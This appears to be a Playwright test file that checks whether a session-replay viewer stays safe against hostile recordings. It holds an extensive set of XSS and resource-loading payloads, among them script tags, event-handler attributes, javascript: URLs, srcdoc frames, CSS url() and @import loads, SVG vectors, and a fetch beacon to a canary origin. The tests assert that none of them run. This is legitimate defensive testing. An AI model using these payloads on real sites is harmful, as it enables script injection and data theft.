"""Recordings that no recorder sends, straight into the desk's stage: nothing runs, nothing loads.

The server checks what it passes on; here it is left out. Once with the stage's own check, and once
without: then what is left are the frame's sandbox and policy, which have to hold alone.
"""

import json
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog, Page

from tests.e2e.replay_house import Canary, build, desk_page

Node = dict[str, Any]
GIF = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="
STEAL = "window.top.stolen=1;window.parent.parent.stolen=1;fetch('{0}/fetched')"


@pytest.fixture(scope="module")
def script(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return build(tmp_path_factory.mktemp("harness"))


@pytest.fixture(scope="module")
def desk(script: bytes) -> Iterator[str]:
    with desk_page(script) as address:
        yield address


@pytest.fixture
def canary() -> Iterator[Canary]:
    listening = Canary({})
    yield listening
    listening.close()


@pytest.fixture
def page(browser: Browser, desk: str) -> Iterator[Page]:
    context = browser.new_context()
    opened = context.new_page()
    opened.goto(desk)
    opened.evaluate("""() => new Promise((done) => {
        const script = document.createElement('script');
        script.src = '/desk/harness.js';
        script.onload = done;
        document.head.append(script);
    })""")
    yield opened
    context.close()


class Picture:
    """Numbers its nodes as a recorder does."""

    def __init__(self) -> None:
        self._last = 0

    def number(self) -> int:
        self._last += 1
        return self._last

    def text(self, content: str) -> Node:
        return {"type": 3, "id": self.number(), "textContent": content}

    def element(self, tag: str, attributes: Node, *children: Node, svg: bool = False) -> Node:
        own = {"type": 2, "id": self.number(), "tagName": tag, "attributes": attributes}
        return {**own, "childNodes": list(children), **({"isSVG": True} if svg else {})}

    def page(self, *children: Node, head: tuple[Node, ...] = ()) -> list[Node]:
        body = self.element("body", {}, *children)
        html = self.element("html", {}, self.element("head", {}, *head), body)
        kind = {"type": 1, "id": self.number(), "name": "html", "publicId": "", "systemId": ""}
        document = {"type": 0, "id": self.number(), "childNodes": [kind, html]}
        offset = {"top": 0, "left": 0}
        return [
            {"type": 4, "data": {"href": "https://shop.example/", "width": 800, "height": 600}},
            {"type": 2, "data": {"node": document, "initialOffset": offset}},
        ]


def changed(**parts: list[Node]) -> Node:
    empty: dict[str, list[Node]] = {"texts": [], "attributes": [], "removes": [], "adds": []}
    return {"type": 3, "data": {"source": 0, **empty, **parts}}


def evil_nodes(p: Picture, away: str) -> list[Node]:
    """Every way that is known for a node to run something or to fetch something."""
    steal = STEAL.format(away)
    bad = f'<script>{steal}</script><img src={away}/inner onerror="{steal}">'
    return [
        *documents(p, away, steal, bad),
        *loads(p, away, steal),
        *styles(p, away),
        drawing(p, away, steal),
        *oddities(p, away, steal, bad),
    ]


def documents(p: Picture, away: str, steal: str, bad: str) -> list[Node]:
    """Scripts, frames and what stands in a head."""
    return [
        p.element("script", {}, p.text(steal)),
        p.element("script", {"src": f"{away}/script.js"}),
        p.element("SCRIPT", {"type": "module", "src": f"{away}/module.js"}),
        p.element("iframe", {"srcdoc": bad}),
        p.element("iframe", {"src": f"{away}/frame"}),
        p.element("iframe", {"src": f"javascript:{steal}"}),
        p.element("frame", {"src": f"{away}/old-frame"}),
        p.element("object", {"data": f"{away}/object"}),
        p.element("object", {"data": f"data:text/html,{bad}"}),
        p.element("embed", {"src": f"{away}/embed"}),
        p.element("base", {"href": f"{away}/base/"}),
        p.element("meta", {"http-equiv": "refresh", "content": f"0;url={away}/refresh"}),
        p.element("link", {"rel": "stylesheet", "href": f"{away}/style.css"}),
        p.element("link", {"rel": "prefetch", "href": f"{away}/prefetch"}),
        p.element("link", {"rel": "preload", "as": "image", "href": f"{away}/preload"}),
        p.element("link", {"rel": "icon", "href": f"{away}/icon"}),
        p.element("link", {"rel": "manifest", "href": f"{away}/manifest"}),
    ]


def loads(p: Picture, away: str, steal: str) -> list[Node]:
    """What shows or fetches something by an address."""
    return [
        p.element("img", {"src": f"{away}/image", "onerror": steal, "onload": steal}),
        p.element("img", {"src": GIF, "onload": steal}),
        p.element("img", {"srcset": f"{away}/srcset 1x"}),
        p.element("img", {"rr_dataURL": f"{away}/drawn"}),
        p.element("canvas", {"rr_dataURL": f"{away}/canvas"}),
        p.element(
            "picture",
            {},
            p.element("source", {"srcset": f"{away}/source"}),
            p.element("img", {"alt": ""}),
        ),
        p.element(
            "video",
            {
                "src": f"{away}/video",
                "poster": f"{away}/poster",
                "autoplay": "",
                "rr_mediaState": "played",
            },
        ),
        p.element("audio", {"src": f"{away}/audio", "autoplay": ""}),
        p.element(
            "input", {"type": "image", "src": f"{away}/input", "onfocus": steal, "autofocus": ""}
        ),
        p.element("a", {"href": f"javascript:{steal}", "ping": f"{away}/ping"}, p.text("go")),
        p.element("form", {"action": f"{away}/form"}, p.element("button", {"formaction": steal})),
        p.element("table", {"background": f"{away}/table"}),
    ]


def styles(p: Picture, away: str) -> list[Node]:
    """Style sheets and inline styles."""
    return [
        p.element("div", {"style": f"background:url({away}/inline)"}, p.text("x")),
        p.element("div", {"style": f"background:u\\72l({away}/escaped)"}, p.text("x")),
        p.element("div", {"style": f"background-image:image-set('{away}/set' 1x)"}, p.text("x")),
        p.element("style", {"_cssText": f"@import '{away}/import.css';"}),
        p.element(
            "style",
            {},
            p.text(f"@import url({away}/import-2.css); body::after{{content:url({away}/content)}}"),
        ),
        p.element(
            "style",
            {
                "_cssText": f"@font-face{{font-family:q;src:url({away}/font)}}"
                f"*{{font-family:q;cursor:url({away}/cursor),auto}}"
            },
        ),
        p.element(
            "style",
            {
                "_cssText": f"input[value^='•']{{background:url({away}/value)}}"
                f"@namespace url({away}/namespace);"
            },
        ),
    ]


def drawing(p: Picture, away: str, steal: str) -> Node:
    """SVG, which has all of that once more."""
    return p.element(
        "svg",
        {"onload": steal},
        p.element("script", {"href": f"{away}/svg.js"}, p.text(steal), svg=True),
        p.element("use", {"href": f"{away}/use#a", "xlink:href": f"{away}/use2#a"}, svg=True),
        p.element("image", {"href": f"{away}/svg-image"}, svg=True),
        p.element("filter", {}, p.element("feImage", {"href": f"{away}/fe"}, svg=True), svg=True),
        p.element("set", {"attributeName": "href", "to": f"javascript:{steal}"}, svg=True),
        p.element(
            "foreignObject",
            {},
            p.element("img", {"src": f"{away}/foreign", "onerror": steal}),
            svg=True,
        ),
        svg=True,
    )


def oddities(p: Picture, away: str, steal: str, bad: str) -> list[Node]:
    """Handlers everywhere, and names that are none."""
    handlers = ("load", "error", "focus", "click", "mouseover", "animationstart", "toggle", "begin")
    return [
        p.element("template", {"shadowrootmode": "open"}, p.element("img", {"src": f"{away}/t"})),
        p.element("noscript", {}, p.element("img", {"src": f"{away}/noscript"})),
        p.element("x-thing", {"is": "x-thing", "onclick": steal}),
        {**p.element("x-custom", {}), "isCustom": True},
        *(p.element("div", {f"on{name}": steal, f"ON{name}": steal}) for name in handlers),
        p.element("details", {"open": "", "ontoggle": steal}),
        p.element("dialog", {"rr_open_mode": "modal", "onclose": steal}),
        p.element("div", {"srcdoc": bad, "innerHTML": bad, "__proto__": bad, "constructor": bad}),
        p.element("div><img src=x onerror=alert(1)>", {}),
        p.element("div", {'x"><img src=x>': "1"}),
        p.text(bad),
        {"type": 5, "id": p.number(), "textContent": f"--><script>{steal}</script>"},
        {"type": 4, "id": p.number(), "textContent": bad},
    ]


def evil_events(away: str) -> list[Node]:
    """A page made of them, the same as changes of a harmless page, and changes of other kinds."""
    steal = STEAL.format(away)
    p = Picture()
    sheet = p.element("style", {"_cssText": "p{color:red}"})
    box, link, field, frame = (p.element(tag, {}) for tag in ("div", "a", "input", "iframe"))
    drawing = p.element("canvas", {})
    later = p.page(*evil_nodes(p, away), head=tuple(evil_nodes(p, away)))
    harmless = p.page(box, link, field, frame, drawing, head=(sheet,))
    adds = [{"parentId": box["id"], "nextId": None, "node": n} for n in evil_nodes(p, away)]
    within_frame = [
        {
            "parentId": frame["id"],
            "nextId": None,
            "node": p.page(*evil_nodes(p, away))[1]["data"]["node"],
        }
    ]
    attributes = [
        {"id": link["id"], "attributes": {"href": f"javascript:{steal}", "onclick": steal}},
        {
            "id": box["id"],
            "attributes": {
                "style": {"background-image": f"url({away}/om)"},
                "onmouseover": steal,
                "srcdoc": steal,
            },
        },
        {"id": field["id"], "attributes": {"type": "image", "src": f"{away}/om-image"}},
        {"id": frame["id"], "attributes": {"src": f"{away}/om-frame", "srcdoc": steal}},
        {"id": frame["id"], "attributes": {"sandbox": "allow-scripts allow-same-origin"}},
    ]
    rules = [{"rule": f"div{{background:url({away}/rule)}}"}, {"rule": f"@import '{away}/rule2'"}]
    command = {"property": "drawImage", "args": [f"{away}/command"]}
    others = [
        {"source": 8, "id": sheet["id"], "adds": rules, "replaceSync": rules[0]["rule"]},
        {
            "source": 13,
            "id": sheet["id"],
            "index": [0],
            "set": {"property": "background", "value": f"url({away}/declared)"},
        },
        {"source": 15, "id": 1, "styleIds": [1], "styles": [{"styleId": 1, "rules": rules}]},
        {"source": 9, "id": drawing["id"], "type": 0, "commands": [command]},
        {"source": 10, "family": "q", "fontSource": f"url({away}/face)", "buffer": False},
        {"source": 7, "id": box["id"], "type": 0, "currentTime": 1},
        {"source": 16, "define": {"name": "x-evil"}},
        {"source": 2, "type": 2, "id": link["id"], "x": 1, "y": 1},
        {"source": 2, "type": 5, "id": field["id"]},
        {"source": 5, "id": field["id"], "text": steal, "isChecked": True},
    ]
    kinds = [
        {"type": 6, "data": {"plugin": "rrweb/x", "payload": steal}},
        {"type": 5, "data": {"tag": steal, "payload": steal}},
        {
            "type": 7,
            "data": {
                "url": f"{away}/asset",
                "payload": {"rr_type": "CssText", "cssTexts": [steal]},
            },
        },
    ]
    changes = [changed(adds=[add]) for add in adds + within_frame]
    return [
        *harmless,
        *changes,
        *(changed(attributes=[each]) for each in attributes),
        *({"type": 3, "data": each} for each in others),
        *kinds,
        *later,
    ]


def play(page: Page, events: list[Node], *, unchecked: bool) -> dict[str, Any]:
    timed = [{**event, "timestamp": number} for number, event in enumerate(events, 1)]
    played: dict[str, Any] = page.evaluate(
        "([events, unchecked]) => window.harness.play(JSON.parse(events), unchecked)",
        [json.dumps(timed), unchecked],
    )
    return played


@pytest.mark.parametrize("unchecked", [False, True], ids=["checked", "frame alone"])
def test_a_hostile_recording_runs_nothing_and_loads_nothing(
    page: Page, canary: Canary, unchecked: bool
) -> None:
    dialogs: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    before = len(page.context.pages)
    address = page.url
    played = play(page, evil_events(canary.origin), unchecked=unchecked)
    assert played["drawn"]
    page.mouse.click(40, 40)
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    page.wait_for_load_state("networkidle")
    assert canary.asked == []
    assert page.evaluate("() => [window.stolen ?? null, ({}).stolen ?? null]") == [None, None]
    assert dialogs == []
    assert len(page.context.pages) == before
    assert page.url == address


def deep() -> list[Node]:
    p = Picture()
    node = p.element("b", {}, p.text("down here"))
    for _ in range(300):
        node = p.element("div", {}, node)
    return p.page(node)


def twice() -> list[Node]:
    p = Picture()
    item = p.element("p", {}, p.text("again"))
    return p.page(item, item)


def within_itself() -> list[Node]:
    p = Picture()
    inner = p.element("div", {})
    outer = p.element("div", {}, inner)
    add = {"parentId": inner["id"], "nextId": None, "node": outer}
    return [*p.page(outer), changed(adds=[add]), changed(adds=[add])]


def flood() -> list[Node]:
    p = Picture()
    said = p.text("0")
    texts = [changed(texts=[{"id": said["id"], "value": str(n)}]) for n in range(10_000)]
    return [*p.page(said), *texts]


def endless() -> list[Node]:
    p = Picture()
    return p.page(p.text("x" * (5 << 20)))


@pytest.mark.parametrize("events", [deep, twice, flood, endless])
def test_a_page_that_can_not_be_ends_the_show(page: Page, events: Callable[[], list[Node]]) -> None:
    assert play(page, events(), unchecked=False)["fault"].startswith("NotPlain")
    assert page.evaluate("() => 1 + 1") == 2


def test_a_node_within_itself_is_left_out(page: Page) -> None:
    assert play(page, within_itself(), unchecked=False) == {"drawn": True, "fault": ""}
